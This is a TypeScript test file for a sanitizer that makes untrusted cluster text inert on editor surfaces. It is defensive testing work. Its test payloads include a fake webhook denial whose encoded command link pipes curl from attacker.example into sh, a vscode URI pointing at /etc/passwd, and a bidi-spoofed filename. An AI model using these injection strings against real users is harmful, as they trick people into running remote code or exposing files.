/**
 * `inert` (shared/text/inert.ts): cluster text on editor surfaces that
 * render links, icons or markup. The payloads are the demo seed's hostile
 * strings plus the admission-webhook denial of issue #19 item 1.
 */
import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import { inert, visibleControls } from '../../shared/text/inert';
import { HOSTILE } from '../simulator/seed';

/** VS Code's notification/dialog link syntax (src/vs/base/common/linkedText.ts, LINK_REGEX). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
/** Markdown inline links/images of any scheme, autolinks, codicons, code spans, HTML. */
const MARKUP = [/\]\s*\(/, /<[a-z!/]/i, /`/, /\$\([a-z-]+/i, /\b(command|https?|file|javascript|vscode|data|mailto):/i];

export const COMMAND_LINK_DENIAL =
  'admission webhook "policy.example.com" denied the request: [Apply the fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20https%3A%2F%2Fattacker.example%2Fx%7Csh%5Cn%22%7D) or see <https://attacker.example> `kubectl apply` $(check) [x]( command:k8sGuardrails.cluster.deletePod )';

const PAYLOADS = [...Object.values(HOSTILE), COMMAND_LINK_DENIAL, '[a](https://attacker.example "t")', '[a]\n(command:x)', '<a href="command:x">x</a>', 'vscode://file/etc/passwd'];

test('inert: no payload keeps a link, a command URI, an icon, a code span or HTML', () => {
  for (const p of PAYLOADS) {
    const out = inert(p);
    assert.strictEqual(out.match(VSCODE_LINK), null, `link survived: ${JSON.stringify(out)}`);
    for (const re of MARKUP) assert.doesNotMatch(out, re, `${re} in ${JSON.stringify(out)}`);
    // nothing invisible or direction-changing except the zero-width spaces inert adds itself
    assert.doesNotMatch(out, /[\u0000-\u001f\u007f-\u009f\u200c-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/, JSON.stringify(out));
  }
  // without inert, the denial is a clickable command link in a notification: the test can fail
  assert.ok(COMMAND_LINK_DENIAL.match(VSCODE_LINK));
});

test('inert: the text still reads the same', () => {
  const out = inert(COMMAND_LINK_DENIAL);
  assert.ok(out.replace(/\u200b/g, '').startsWith('admission webhook "policy.example.com" denied the request: [Apply the fix](command:workbench.action'), out);
  assert.strictEqual(inert('spec.containers[0].image: Invalid value: "busybox:1.36"'), 'spec.containers[0].image: Invalid value: "busybox:1.36"');
  assert.strictEqual(inert('must be <= 63 `chars`'), 'must be \u2039= 63 \u02cbchars\u02cb');
  assert.strictEqual(inert(HOSTILE.bidi), 'invoice-\\u{202E}fdp.exe');
  assert.strictEqual(inert('a\u200bb'), 'a\\u{200B}b', 'zero-width input is made visible (only inert adds them)');
  assert.strictEqual(inert('a\u061cb\u00adc\u180ed'), 'a\\u{61C}b\\u{AD}c\\u{180E}d', 'the Arabic letter mark (a bidi control), soft hyphen and Mongolian vowel separator are made visible');
  assert.strictEqual(inert('line 1\nline 2'), 'line 1\\u{A}line 2');
  assert.strictEqual(inert('line 1\nline 2', { multiline: true }), 'line 1\nline 2');
  assert.strictEqual(inert('x'.repeat(20), { max: 5 }), 'xxxxx…');
  assert.strictEqual(visibleControls('\u001b[2J\ttab'), '\\u{1B}[2J\ttab');
});
